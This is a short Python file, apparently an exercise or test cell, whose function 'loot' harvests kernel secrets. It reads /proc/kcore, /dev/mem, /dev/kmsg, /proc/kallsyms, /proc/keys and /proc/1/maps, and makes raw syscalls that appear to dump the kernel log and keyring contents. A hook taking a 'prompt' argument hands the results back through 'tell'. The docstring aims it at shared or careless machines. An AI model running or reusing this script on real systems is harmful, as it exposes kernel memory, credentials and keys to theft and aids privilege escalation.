"""Looks through the windows that the kernel has: its log, its memory, its symbols, its keys.

Elsewhere: `dmesg` of a shared machine, `/proc/kcore` of a careless one.
"""

# %% solution="value"
import ctypes
import os

from toolbox import each, number, reached, run, syscall, tell, won


def read(path):
    file = os.open(path, os.O_RDONLY)
    return won(os.read(file, 200))


def log():
    buffer = ctypes.create_string_buffer(4096)
    syscall(number(103, 116), 3, buffer, 4096)
    return won(buffer.value)


def key():
    buffer = ctypes.create_string_buffer(4096)
    syscall(number(250, 219), 11, -3, buffer, 4096, 0)
    return won(buffer.raw)


def loot():
    reached()
    files = [
        "/proc/kcore",
        "/dev/mem",
        "/dev/kmsg",
        "/proc/kallsyms",
        "/proc/keys",
        "/sys/kernel/notes",
        "/proc/1/maps",
    ]
    return each(read, files) + each(run, [log, key])


def attribute(prompt, x):
    return tell(loot)
